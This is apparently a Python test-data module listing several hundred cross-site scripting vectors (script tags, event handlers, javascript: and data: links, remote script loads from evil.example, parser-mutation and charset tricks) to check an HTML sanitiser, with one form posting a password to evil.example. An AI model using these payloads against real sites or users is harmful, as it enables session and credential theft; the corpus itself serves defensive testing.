"""What attackers write into a message: the classic vectors, by what they try. Each would do its harm with `alert`."""

SCRIPTS = r"""
<script>alert(1)</script>
<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>
<script src=//evil.example/x.js></script>
<ScRiPt>alert(1)</sCrIpT>
<script >alert(1)</script >
<script/src=data:,alert(1)></script>
<script x>alert(1)</script 1=2
<script>alert(1)
<<script>alert(1);//<</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script\x20type="text/javascript">alert(1);</script>
<script/xss src="https://evil.example/xss.js"></script>
<SCRIPT a=">" SRC="https://evil.example/xss.js"></SCRIPT>
<SCRIPT "a='>'" SRC="https://evil.example/xss.js"></SCRIPT>
</script><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
<script>alert(String.fromCharCode(88,83,83))</script>
<script type=module>import 'https://evil.example/x.js'</script>
<script nonce=x>alert(1)</script>
<!--<img src="--><img src=x onerror=alert(1)//">
<comment><img src="</comment><img src=x onerror=alert(1)//">
<![CDATA[<script>alert(1)</script>]]>
<![><img src="]><img src=x onerror=alert(1)//">
<?xml version="1.0"?><script>alert(1)</script>
<?php echo '<script>alert(1)</script>'; ?>
<!--[if gte IE 4]><script>alert(1);</script><![endif]-->
<!--><script>alert(1)</script>-->
<!--->alert<script>alert(1)</script>
"""

HANDLERS = r"""
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script href="data:,alert(1)"/></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>click</text></a></svg>
<svg><set attributeName=href to=javascript:alert(1)><a id=x>x</a></svg>
<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz4#x"/></svg>
<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>
<svg><style>{font-family:'<iframe/onload=alert(1)>'
<img src=x onerror=alert(1)>
<IMG SRC="javascript:alert(1);">
<IMG SRC=javascript:alert(1)>
<IMG SRC=JaVaScRiPt:alert(1)>
<IMG SRC=`javascript:alert("x")`>
<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">
<IMG SRC=# onmouseover="alert(1)">
<IMG onmouseover="alert(1)">
<IMG SRC=/ onerror="alert(1)"></img>
<img src=x onerror="&#0000106&#0000097&#0000118&#0000097alert(1)">
<img/src=`%00` onerror=alert(1)>
<img src=x:alert(alt) onerror=eval(src) alt=1>
<img src="x` `<script>alert(1)</script>"` `>
<img src=x onerror=alert`1`>
<img	src=x	onerror=alert(1)>
<img srcset="x, https://evil.example/x.png 2x" onerror=alert(1)>
<image src=x onerror=alert(1)>
<body onload=alert(1)>
<BODY ONLOAD=alert(1)>
<body background="javascript:alert(1)">
<body onpageshow=alert(1)>
<input onfocus=alert(1) autofocus>
<input type=image src=javascript:alert(1)>
<select onfocus=alert(1) autofocus>
<textarea onfocus=alert(1) autofocus>
<keygen onfocus=alert(1) autofocus>
<video><source onerror="alert(1)"></video>
<video src=x onerror=alert(1)>
<video poster=javascript:alert(1)//></video>
<audio src=x onerror=alert(1)>
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>
<p onclick=alert(1)>click</p>
<b onmouseover=alert(1)>x</b>
<a onmouseover="alert(1)" href="https://example.com/">x</a>
<br onclick=alert(1)>
<div onpointerover=alert(1)>x</div>
<x onclick=alert(1)>x</x>
<p/onclick=alert(1)>x
<p onclick
=alert(1)>x</p>
<b/**/onclick=alert(1)>x</b>
<b "onclick=alert(1)//">x</b>
<li onfocus=alert(1) tabindex=1>x</li>
"""

LINKS = r"""
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" &#14;  javascript:alert(1);">x</a>
<a href="java	script:alert(1)">x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href="jav&#x0A;ascript:alert(1)">x</a>
<a href="jav&#x0D;ascript:alert(1)">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>
<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099ript&#0000058alert(1)">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="javascript&#58;alert(1)">x</a>
<a href="&Tab;javascript&NewLine;:alert(1)">x</a>
<a href="javascript:javascript:alert(1)">x</a>
<a href="javascript://example.com/%0aalert(1)">x</a>
<a href="javascript://https://example.com/?z=%0Aalert(1)">x</a>
<a href="vbscript:msgbox(alert)">x</a>
<a href="livescript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="DATA:image/svg+xml,<svg onload=alert(1)>">x</a>
<a href="blob:https://example.com/alert">x</a>
<a href="filesystem:https://example.com/alert">x</a>
<a href="file:///etc/passwd">alert</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href="feed:javascript:alert(1)">x</a>
<a href="jar:https://evil.example/x.jar!/alert">x</a>
<a href="//evil.example/alert">x</a>
<a href="/\evil.example/alert">x</a>
<a href="\\evil.example\alert">x</a>
<a href="?alert=1">x</a>
<a href="#alert">x</a>
<a href="https:alert">x</a>
<a href=javascript:alert(1) href=https://example.com>x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="&#8203;javascript:alert(1)">x</a>
<a href="javas&#99;ript:alert(1)" target=_blank>x</a>
<a xlink:href="javascript:alert(1)">x</a>
<a href='https://example.com/"><script>alert(1)</script>'>x</a>
<a href="https://example.com/" ping="https://evil.example/alert">x</a>
<a href="https://example.com/" style="background:url(https://evil.example/alert)">x</a>
<area href="javascript:alert(1)">
<map name=x><area shape=rect coords=0,0,9,9 href=javascript:alert(1)></map>
<form action="javascript:alert(1)"><input type=submit></form>
<form action=https://evil.example/alert method=post><input name=password><button>x</button></form>
<form id=test></form><button form=test formaction="javascript:alert(1)">x</button>
<button formaction=javascript:alert(1)>x</button>
<isindex action=javascript:alert(1) type=image>
<input type=submit formaction=https://evil.example/alert>
<math href="javascript:alert(1)">x</math>
<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">x</maction></math>
"""

REMOTE = r"""
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>
<iframe src=https://evil.example/alert></iframe>
<iframe/onload=alert(1)>
<frameset><frame src="javascript:alert(1)"></frameset>
<frameset onload=alert(1)>
<object data="javascript:alert(1)"></object>
<object type=text/html data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<object classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389><param name=url value=javascript:alert(1)></object>
<embed src="javascript:alert(1)">
<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml">
<applet code="alert.class" codebase=https://evil.example></applet>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<META HTTP-EQUIV="refresh" CONTENT="0; URL=https://;URL=javascript:alert(1);">
<meta http-equiv="Set-Cookie" content="x=&lt;script&gt;alert(1)&lt;/script&gt;">
<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<base href="javascript:alert(1);//">
<base href=https://evil.example/alert>
<link rel="stylesheet" href="javascript:alert(1);">
<link rel=stylesheet href=https://evil.example/alert.css>
<link rel=import href="data:text/html,<script>alert(1)</script>">
<link rel=preload as=image href=https://evil.example/alert>
<style>@import 'https://evil.example/alert.css';</style>
<style>body{background:url("javascript:alert(1)")}</style>
<style>li {list-style-image: url("javascript:alert(1)");}</style><ul><li>x</ul>
<style><img src="</style><img src=x onerror=alert(1)//">
<p style="background-image:url(https://evil.example/alert)">x</p>
<div style="width: expression(alert(1));">x</div>
<div style="background-image:\0075\0072\006C\0028'\006a\0061\0076alert(1)'">x</div>
<xss style="behavior: url(alert.htc);">x</xss>
<div style="-moz-binding:url(https://evil.example/alert.xml#xss)">x</div>
<table background="javascript:alert(1)"><td>x</td></table>
<table><td background="https://evil.example/alert">x</td></table>
<bgsound src="javascript:alert(1);">
<layer src="https://evil.example/alert"></layer>
<img src="https://evil.example/open.gif?alert" width=1 height=1>
<img lowsrc=https://evil.example/alert dynsrc=https://evil.example/alert>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">
<picture><source srcset=https://evil.example/alert><img src=x></picture>
<track src=https://evil.example/alert>
<xml id=i><x><c><![CDATA[<img src="javas]]><![CDATA[cript:alert(1);">]]></c></x></xml>
<html xmlns:xss><?import namespace="xss" implementation="https://evil.example/alert.htc"><xss:xss>x</xss:xss></html>
<portal src=https://evil.example/alert></portal>
<blockquote cite=https://evil.example/alert>x</blockquote>
<template><script>alert(1)</script></template>
<template shadowrootmode=open><img src=x onerror=alert(1)></template>
<slot onslotchange=alert(1)>x</slot>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
"""

MUTATIONS = r"""
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noscript><style></noscript><img src=x onerror=alert(1)>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><mtext><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><p><style><g title="</style><img src=x onerror=alert(1)>">
<svg><desc><table><svg><style><a title="</style><img src=x onerror=alert(1)>"></a></style></svg></table></desc></svg>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>
<svg><foreignObject><math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math><mi></mi><style><!--</style><img src=x onerror=alert(1)>--></style></math>
<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>">
<select><style></select><img src=x onerror=alert(1)></style>
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<noembed><p title="</noembed><img src=x onerror=alert(1)>">
<noframes><p title="</noframes><img src=x onerror=alert(1)>">
<plaintext><img src=x onerror=alert(1)>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<title><p title="</title><img src=x onerror=alert(1)>">
<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>
<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>
<p title="<img src=x onerror=alert(1)>">x</p>
<pre><listing>
&lt;script&gt;alert(1)&lt;/script&gt;</listing></pre>
<code>&lt;/code&gt;<script>alert(1)</script></code>
<table><tr><td><form><table><script>alert(1)</script></table></form></td></tr></table>
<table><a href=javascript:alert(1)>x<table></a><img src=x onerror=alert(1)>
<p><a href="https://example.com/?a=</p><script>alert(1)</script>">x</a></p>
<a href="https://example.com/?<img src=x onerror=alert(1)>">x</a>
<b><p></b><i onclick=alert(1)></p>x</i>
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
&#60;img src=x onerror=alert(1)&#62;
&lt;img src=x onerror=alert(1)
%3Cscript%3Ealert(1)%3C/script%3E
\u003cscript\u003ealert(1)\u003c/script\u003e
{{constructor.constructor('alert(1)')()}}
${alert(1)} #{alert(1)} <%= alert(1) %>
"><img src=x onerror=alert(1)>
'><svg onload=alert(1)>
' onmouseover=alert(1) x='
javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>
"""

BYTES = (
    '<a href="\uff4aavascript:alert(1)">x</a>',
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<img src=x on\0error=alert(1)>",
    '<a href="java\0script:alert(1)">x</a>',
    "<\0script>alert(1)</script>",
    "<script\x0c>alert(1)</script\x0b>",
    "<img\x0csrc=x\x0conerror=alert(1)>",
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="java\rscript:alert(1)">x</a>',
    "<img src=x\xa0onerror=alert(1)>",
    "\ufeff<script>alert(1)</script>",
    "<a\u200b onclick=alert(1)>x</a>",
    "\ufdd0<img src=x onerror=alert(1)>\ufdd0",
    "\ufdd0\ufdd0<scr\ufdd0ipt>alert(1)</scr\ufdd0ipt>",
    "<img src='cid:x' alt='<script>alert(1)</script>'>",
    "<img src='cid:x' alt='\"><img src=x onerror=alert(1)>'>",
    "\ud800<script>alert(1)</script>",
)

VECTORS = tuple(
    vector
    for group in (SCRIPTS, HANDLERS, LINKS, REMOTE, MUTATIONS)
    for vector in group.strip("\n")
    .replace("\n=alert", "\x85=alert")
    .replace("<listing>\n", "<listing>\x85")
    .split("\n")
) + tuple(BYTES)
VECTORS = tuple(vector.replace("\x85", "\n") for vector in VECTORS)
"""All of them."""

IN_OTHER_CHARSETS = (
    ("<script>alert(1)</script>".encode("utf-16"), "text/html; charset=utf-16"),
    ("<script>alert(1)</script>".encode("utf-32"), "text/html; charset=utf-32"),
    ("<script>alert(1)</script>".encode("utf-7"), "text/html; charset=utf-7"),
    (b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "text/html; charset=utf-7"),
    (b"+ADw-img src=x onerror=alert(1)+AD4-", "text/html; charset=utf-7"),
    (b"\xbcscript\xbealert(1)\xbc/script\xbe", "text/html; charset=us-ascii"),
    (b"<scr\xc0\x80ipt>alert(1)</script>", "text/html; charset=utf-8"),
    (b"\xe0\x80\xbcscript>alert(1)</script>", "text/html; charset=utf-8"),
    ("<img src=x onerror=alert(1)>".encode("cp037"), "text/html; charset=cp037"),
    (b"\x1b(J<script>alert(1)</script>", "text/html; charset=iso-2022-jp"),
    (b"\x81<script>alert(1)</script>", "text/html; charset=shift_jis"),
    (b'<img src="\x81" onerror=alert(1)>', "text/html; charset=gbk"),
)
"""The same by way of the charset."""
